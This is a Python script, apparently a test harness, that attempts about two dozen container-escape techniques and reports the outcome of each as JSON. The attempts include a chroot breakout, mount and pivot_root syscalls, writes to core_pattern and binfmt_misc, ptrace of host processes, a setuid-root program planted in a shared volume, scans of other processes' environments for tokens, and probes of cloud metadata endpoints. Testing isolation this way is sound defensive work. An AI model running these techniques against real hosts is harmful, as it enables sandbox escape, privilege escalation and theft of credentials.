"""Tries to leave a container, as a project's code could. Prints for each attack what it reached, or why nothing.

Standard input is JSON that says where the targets are, which the code of a project would have to guess. The arguments
name the attacks to make; without any, all are made.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import re
import socket
import stat
import sys
from collections.abc import Callable, Iterable
from functools import partial
from pathlib import Path
from typing import Any, TypedDict


class Targets(TypedDict):
    """Where the host's secrets are."""

    # The port of a server on the host's loopback, which stands for the engine's.
    port: int
    # The name of an abstract socket of the host.
    abstract: str
    # The engine's token, and a variable of the engine's environment.
    token: str
    marker: str
    # A file of the host, below the cache folder.
    file: str
    # Process numbers of the engine.
    pids: list[int]
    # The address and port of a service in another session.
    service: list[Any]
    # A folder with files that an attacker has prepared, such as a cache volume.
    volume: str


libc = ctypes.CDLL(None, use_errno=True)

# Numbers of system calls on x86-64 and ARM64, and of their arguments.
NUMBERS = {
    "x86_64": {"ptrace": 101, "mount": 165, "umount2": 166, "unshare": 272, "setns": 308, "pivot_root": 155}
    | {"add_key": 248, "keyctl": 250, "open_by_handle_at": 304, "open_tree": 428, "process_vm_readv": 310},
    "aarch64": {"ptrace": 117, "mount": 40, "umount2": 39, "unshare": 97, "setns": 268, "pivot_root": 41}
    | {"add_key": 217, "keyctl": 219, "open_by_handle_at": 265, "open_tree": 428, "process_vm_readv": 270},
}
NEW_USER, NEW_NAMESPACE, NEW_NETWORK = 0x10000000, 0x20000, 0x40000000
BIND, REMOUNT, LAZY = 4096, 32, 2
ATTACH, SEIZE = 16, 0x4206


def call(name: str, *arguments: int | bytes | None) -> int:
    """Make a system call, or raise its error."""
    values = [ctypes.c_char_p(one) if isinstance(one, bytes) else ctypes.c_long(one or 0) for one in arguments]
    result = int(libc.syscall(ctypes.c_long(NUMBERS[os.uname().machine][name]), *values))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def made(name: str, *arguments: int | bytes | None) -> str:
    """Make a system call, and say that it succeeded."""
    return f"made the system call {name}: {call(name, *arguments)}"


def first(tries: Iterable[Callable[[], str | None]]) -> str | None:
    """Give what the first successful try reached; raise the last error when none succeeds."""
    failure: OSError | None = None
    for attempt in tries:
        try:
            if reached := attempt():
                return reached
        except OSError as error:
            failure = error
    if failure:
        raise failure
    return None


def connects(family: socket.AddressFamily, address: Any) -> Callable[[], str]:
    """Make a try to connect."""

    def attempt() -> str:
        with socket.socket(family, socket.SOCK_STREAM) as client:
            client.settimeout(2)
            client.connect(address)
            return f"connected to {address!r}"

    return attempt


def opens(path: str, mode: str) -> Callable[[], str]:
    """Make a try to open a file."""

    def attempt() -> str:
        # Without a buffer nothing is written, and a device is not read.
        with open(path, mode, buffering=0) as file:  # noqa: PTH123
            if "r" in mode and not file.read(16):
                return ""
        return f"opened {path} ({mode})"

    return attempt


def raw_sockets(_: Targets) -> str | None:
    kinds = [(socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_PACKET, socket.SOCK_DGRAM, 768)]
    kinds += [(socket.AF_INET, socket.SOCK_RAW, 6), (socket.AF_INET6, socket.SOCK_RAW, 6)]

    def attempt(kind: tuple[int, int, int]) -> str:
        with socket.socket(kind[0], kind[1], socket.htons(kind[2])):
            return f"has a raw socket {kind}"

    return first(partial(attempt, kind) for kind in kinds)


def nameservers() -> list[str]:
    return re.findall(r"nameserver (\S+)", Path("/etc/resolv.conf").read_text())


def host_loopback(targets: Targets) -> str | None:
    """Try the loopback and all addresses at which the way to the outside might lead to it."""
    routes = Path("/proc/net/route").read_text().split("\n")[1:-1]
    gateways = [bytes.fromhex(line.split()[2])[::-1] for line in routes]
    near = sorted({socket.inet_ntoa(gateway) for gateway in gateways} - {"0.0.0.0"})
    addresses = ["127.0.0.1", "127.0.0.2", "0.0.0.0", *nameservers(), *near]
    tries = [connects(socket.AF_INET, (address, targets["port"])) for address in addresses]
    tries += [connects(socket.AF_INET6, (address, targets["port"])) for address in ("::1", "::ffff:127.0.0.1")]
    return first(tries)


def listeners_of_the_host(_: Targets) -> str | None:
    tables = "".join(Path(f"/proc/net/{table}").read_text() for table in ("tcp", "tcp6"))
    listening = [line for line in tables.split("\n") if " 0A " in line]
    return f"sees listeners: {listening}" if listening else None


def abstract_sockets(targets: Targets) -> str | None:
    named = [line for line in Path("/proc/net/unix").read_text().split("\n")[1:] if line]
    if named:
        return f"sees sockets: {named[:3]}"
    return connects(socket.AF_UNIX, f"\0{targets['abstract']}")()


def metadata_service(_: Targets) -> str | None:
    return first(connects(socket.AF_INET, (address, 80)) for address in ("169.254.169.254", "169.254.170.2"))


def another_session(targets: Targets) -> str | None:
    return connects(socket.AF_INET, (targets["service"][0], targets["service"][1]))()


def token(targets: Targets) -> str | None:
    """Look for the token and the engine's environment wherever processes and files tell of others."""
    wanted = [targets["token"].encode(), targets["marker"].encode()]
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline"):
            try:
                content = (process / name).read_bytes()
            except OSError:
                continue
            if any(text in content for text in wanted):
                return f"found in {process / name}"
    for folder in ("/run", "/tmp", "/dev", "/etc", "/root"):
        for path in Path(folder).rglob("*"):
            if path.is_file() and any(text in path.read_bytes() for text in wanted):
                return f"found in {path}"
    return None


def host_files(targets: Targets) -> str | None:
    """Look for a file of the host in every root and working folder that a process shows."""
    path = targets["file"]
    roots = ["", *(f"/proc/{pid}/{link}" for pid in [1, os.getppid(), *targets["pids"]] for link in ("root", "cwd"))]

    def attempt(root: str) -> str:
        Path(f"{root}{path}").stat()
        return f"saw {root}{path}"

    return first(partial(attempt, root) for root in roots)


def leave_by_chroot(targets: Targets) -> str | None:
    """Keep a folder above a new root open, which leads out of a root that was not moved over the old one."""
    Path("/tmp/inner").mkdir(exist_ok=True)
    child = os.fork()
    if child == 0:
        try:
            above = os.open("/", os.O_RDONLY)
            os.chroot("/tmp/inner")
            os.fchdir(above)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            os._exit(0 if os.path.exists(targets["file"]) else 1)  # noqa: PTH110
        finally:
            os._exit(2)
    _, status = os.waitpid(child, 0)
    return "left the root" if status == 0 else None


def mounts(_: Targets) -> str | None:
    return first(
        [
            partial(made, "mount", b"none", b"/tmp", b"tmpfs", 0, None),
            partial(made, "mount", b"/", b"/tmp", None, BIND, None),
            partial(made, "mount", b"proc", b"/tmp", b"proc", 0, None),
            partial(made, "mount", None, b"/sys", None, REMOUNT | BIND, None),
            partial(made, "mount", None, b"/proc/sys", None, REMOUNT | BIND, None),
            partial(made, "umount2", b"/proc/sys", LAZY),
            partial(made, "umount2", b"/dev", LAZY),
            partial(made, "pivot_root", b"/", b"/tmp"),
            partial(made, "open_tree", -100, b"/", 1),
        ]
    )


def kernel_settings(_: Targets) -> str | None:
    paths = ["sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/vm/drop_caches", "sys/net/ipv4/ip_forward"]
    paths += ["sysrq-trigger", "sys/fs/binfmt_misc/register", "irq/default_smp_affinity"]
    files = [f"/proc/{path}" for path in paths]
    files += ["/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled"]
    return first(opens(path, "r+b") for path in files)


def kernel_secrets(_: Targets) -> str | None:
    return first(opens(f"/proc/{name}", "rb") for name in ("kcore", "keys", "key-users", "timer_list", "sched_debug"))


def control_groups(_: Targets) -> str | None:
    found = [str(path) for path in Path("/sys/fs/cgroup").glob("*")]
    return f"sees {found[:3]}" if found else None


def new_devices(_: Targets) -> str | None:
    kinds = {"disk": stat.S_IFBLK | 0o600, "memory": stat.S_IFCHR | 0o600}
    numbers = {"disk": os.makedev(8, 0), "memory": os.makedev(1, 1)}

    def attempt(name: str) -> str:
        os.mknod(f"/tmp/{name}", kinds[name], numbers[name])
        return f"made a device: {name}"

    return first(partial(attempt, name) for name in kinds)


def devices(targets: Targets) -> str | None:
    """Open the host's devices, and one that an image or a volume brought."""
    names = ["/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/net/tun", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm"]
    return first(opens(name, "rb") for name in [*names, "/etc/device", f"{targets['volume']}/device"])


def tracing(targets: Targets) -> str | None:
    pids = [1, os.getppid(), *targets["pids"]]
    pids = [pid for pid in pids if pid not in (0, os.getpid())]
    return first(partial(made, "ptrace", how, pid, 0, 0) for pid in pids for how in (ATTACH, SEIZE))


def memory_of_others(targets: Targets) -> str | None:
    return first(opens(f"/proc/{pid}/mem", "r+b") for pid in [1, *targets["pids"]])


def signals(targets: Targets) -> str | None:
    def attempt(pid: int) -> str:
        os.kill(pid, 0)
        return f"may signal {pid}"

    return first(partial(attempt, pid) for pid in targets["pids"])


def key_rings(_: Targets) -> str | None:
    session = -3
    return first(
        [
            partial(made, "add_key", b"user", b"attack", b"x", 1, session),
            partial(made, "keyctl", 0, session, 1),
            partial(made, "keyctl", 6, -4),
        ]
    )


def namespaces(_: Targets) -> str | None:
    flags = [NEW_USER, NEW_USER | NEW_NAMESPACE, NEW_NAMESPACE, NEW_NETWORK]

    def joins() -> str:
        return made("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0)

    return first([*(partial(made, "unshare", flag) for flag in flags), joins])


def file_handles(_: Targets) -> str | None:
    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
    root = os.open("/", os.O_RDONLY)
    return f"opened a file by its number: {call('open_by_handle_at', root, handle, os.O_RDONLY)}"


def set_user_id(targets: Targets) -> str | None:
    """Leave a set-user-ID program in a volume, and see whether another user becomes root by it."""
    program = Path(targets["volume"]) / "become"
    program.write_bytes(Path("/bin/id").read_bytes())
    program.chmod(0o6755)
    child = os.fork()
    if child == 0:
        try:
            os.setgid(1000)
            os.setuid(1000)
            os._exit(0 if os.popen(f"{program} -u").read().strip() == "0" else 1)
        finally:
            os._exit(2)
    _, status = os.waitpid(child, 0)
    return "became root by a program in a volume" if status == 0 else None


def capabilities(_: Targets) -> str | None:
    status = Path("/proc/self/status").read_text()
    bounding = int(re.findall(r"CapBnd:\s*(\w+)", status)[0], 16)
    allowed = 0x800405FB
    return f"has more capabilities: {bounding & ~allowed:x}" if bounding & ~allowed else None


def inherited_descriptors(_: Targets) -> str | None:
    """Look for what the host's programs left open, by which paths outside of the container could be named."""

    def attempt(path: Path) -> str:
        target = str(path.readlink())
        return "" if path.name in "012" or target.startswith("/proc/") else f"has inherited {path.name}: {target}"

    return first(partial(attempt, path) for path in Path("/proc/self/fd").iterdir())


def hypervisor(_: Targets) -> str | None:
    """Speak to the machine that this one runs on, or to this one, past all networks."""

    def attempt(number: int) -> str:
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as peer:
            peer.settimeout(1)
            peer.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
            return f"has a socket to machine {number}"

    return first(partial(attempt, number) for number in (0, 1, 2))


def interfaces(_: Targets) -> str | None:
    """Change the network that the container was given: the next one may get it."""

    def attempt(request: int, name: bytes) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
            fcntl.ioctl(control, request, name.ljust(16, b"\0") + b"\0" * 24)
            return f"changed {name.decode()}"

    set_flags, set_address, delete_route = 0x8914, 0x8916, 0x890C
    return first(
        partial(attempt, request, name)
        for request in (set_flags, set_address, delete_route)
        for name in (b"lo", b"tap0")
    )


def own_limits(_: Targets) -> str | None:
    """Raise the limits that the kernel holds the container to."""
    Path("/tmp/groups").mkdir(exist_ok=True)
    kinds = [(b"cgroup2", b""), (b"cgroup", b"memory"), (b"cgroup", b"pids"), (b"cgroup", b"none,name=attack")]
    mounting = [partial(made, "mount", b"none", b"/tmp/groups", kind, 0, options) for kind, options in kinds]
    roots = ["/sys/fs/cgroup", "/proc/1/root/sys/fs/cgroup", "/proc/self/root/sys/fs/cgroup"]
    paths = [path for root in roots for path in Path(root).rglob("*") if path.name in ("memory.max", "pids.max")]
    files = [*map(str, paths), "/run/ml-pipeline-limits/memory", "/run/ml-pipeline-limits/tasks"]
    return first([*mounting, *(opens(path, "r+b") for path in files)])


ATTACKS = [
    # First: others leave descriptors of their own.
    inherited_descriptors,
    *(raw_sockets, host_loopback, listeners_of_the_host, abstract_sockets, metadata_service, another_session, token),
    *(host_files, leave_by_chroot, mounts, kernel_settings, kernel_secrets, control_groups, new_devices, devices),
    *(tracing, memory_of_others, signals, key_rings, namespaces, file_handles, set_user_id, capabilities),
    *(hypervisor, interfaces, own_limits),
]


def outcome(attack: Callable[[Targets], str | None], targets: Targets) -> str:
    """Say what an attack reached. Empty text means nothing."""
    try:
        return attack(targets) or ""
    except OSError:
        return ""


given: Targets = json.load(sys.stdin)
chosen = [attack for attack in ATTACKS if attack.__name__ in (sys.argv[1:] or [attack.__name__])]
print(json.dumps({attack.__name__: outcome(attack, given) for attack in chosen}))
